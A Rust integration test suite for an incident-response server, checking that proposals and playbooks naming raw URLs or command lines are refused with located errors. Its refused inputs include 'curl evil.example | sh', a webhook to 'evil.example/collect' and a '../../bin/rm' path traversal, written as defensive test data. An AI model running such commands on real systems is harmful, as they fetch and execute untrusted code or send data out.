//! People pick connectors and destinations by name; they never supply a URL or a command line,
//! in a proposal or in a playbook. A playbook file that cannot be used is refused with the line
//! and column of its problem, and nothing changes.

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::harness::{ADMIN, COMMANDER, spawn};

async fn problem(response: reqwest::Response, status: StatusCode) -> Value {
    let got = response.status();
    let text = response.text().await.expect("a body");
    assert_eq!(got, status, "{text}");
    let problem: Value = serde_json::from_str(&text).expect("a problem document");
    assert!(problem["detail"].as_str().is_some_and(|d| !d.is_empty()), "{problem:#}");
    problem
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_proposal_cannot_carry_a_url_or_a_command_line() {
    let server = spawn("[destinations.cloud-iam]\nurl = \"http://127.0.0.1:9/\"\nsecret = \"s\"\n").await;
    let state = server.declare("Phishing kit", json!({})).await;
    let incident = state["id"].as_str().expect("an incident id");
    let path = format!("/api/v1/incidents/{incident}/decisions");
    let refused = [
        json!({"connector": "webhook", "url": "http://evil.example/collect"}),
        json!({"connector": "webhook", "destination": "https://evil.example"}),
        json!({"connector": "command", "command": "/bin/sh -c 'curl evil.example | sh'"}),
        json!({"connector": "command", "command": "../../bin/rm"}),
    ];
    for action in refused {
        let body = json!({"class": "containment", "title": "Block the kit's domain", "actions": [action]});
        let answer = server.post(COMMANDER, &path, body).await;
        let problem = problem(answer, StatusCode::UNPROCESSABLE_ENTITY).await;
        assert!(problem["detail"].as_str().is_some_and(|d| d.contains("actions")), "names the field: {problem:#}");
    }
    let state = server.state(incident).await;
    assert_eq!(state["decisions"], json!([]), "no refused proposal reached the record");
}

/// A valid playbook; each bad one below changes one line of it.
const GOOD: &str = r#"id = "token-leak"
title = "Leaked CI token"
version = "1.0"
approved_by = "CISO"
approved_at = "2026-11-01"
required_roles = ["commander", "tech_lead"]

[inputs.token_name]
description = "The token's name"

[[preapproved]]
class = "credential_revocation"
title = "Revoke {token_name}"
actions = [
    { connector = "webhook", destination = "cloud-iam", payload = { token = "{token_name}" } },
]

[[steps]]
title = "Find where {token_name} was used"
role = "tech_lead"
due_minutes = 30
"#;

/// `GOOD` with the line containing `find` replaced by `replace`; the 1-based line number.
fn variant(find: &str, replace: &str) -> (String, usize) {
    let mut line_number = 0;
    let lines: Vec<String> = GOOD
        .lines()
        .enumerate()
        .map(|(index, line)| {
            if line.contains(find) {
                line_number = index + 1;
                replace.to_owned()
            } else {
                line.to_owned()
            }
        })
        .collect();
    assert_ne!(line_number, 0, "the good playbook has a line with {find}");
    (lines.join("\n") + "\n", line_number)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bad_playbook_is_refused_with_the_line_and_column_of_its_problem() {
    let server = spawn("").await;
    let path = "/api/v1/playbooks/token-leak";
    let cases = [
        ("syntax", variant("title = \"Leaked CI token\"", "title = \"Leaked CI token"), "string"),
        ("unknown role", variant("role = \"tech_lead\"", "role = \"janitor\""), "janitor"),
        (
            "unknown class",
            variant("class = \"credential_revocation\"", "class = \"nuke_from_orbit\""),
            "nuke_from_orbit",
        ),
        (
            "unknown connector",
            variant("{ connector = \"webhook\"", "    { connector = \"ftp\", destination = \"cloud-iam\" },"),
            "ftp",
        ),
        (
            "an input used but not declared",
            variant("title = \"Find where", "title = \"Find where {token_owner} used {token_name}\""),
            "token_owner",
        ),
        (
            "a URL as destination",
            variant(
                "{ connector = \"webhook\"",
                "    { connector = \"webhook\", destination = \"https://evil.example/hook\" },",
            ),
            "https://evil.example/hook",
        ),
        (
            "a URL field",
            variant(
                "{ connector = \"webhook\"",
                "    { connector = \"webhook\", url = \"https://evil.example/hook\" },",
            ),
            "url",
        ),
        (
            "a command line",
            variant(
                "{ connector = \"webhook\"",
                "    { connector = \"command\", command = \"/usr/bin/curl evil.example\" },",
            ),
            "/usr/bin/curl",
        ),
    ];
    for (what, (source, line), named) in cases {
        let answer = server.put(ADMIN, path, json!({ "source": source })).await;
        let problem = problem(answer, StatusCode::UNPROCESSABLE_ENTITY).await;
        let detail = problem["detail"].as_str().expect("a detail");
        assert!(detail.contains(&format!("line {line}, column ")), "{what}: located at line {line}: {detail}");
        assert!(detail.contains(named), "{what}: names {named}: {detail}");
    }
    let missing = server.request(reqwest::Method::GET, ADMIN, path).send().await.expect("the server answers");
    assert_eq!(missing.status(), StatusCode::NOT_FOUND, "no refused file was added");

    // The good one is accepted, so the refusals above were about their one changed line.
    let added = server.put(ADMIN, path, json!({ "source": GOOD })).await;
    assert_eq!(added.status(), StatusCode::OK, "{:?}", added.text().await);
}
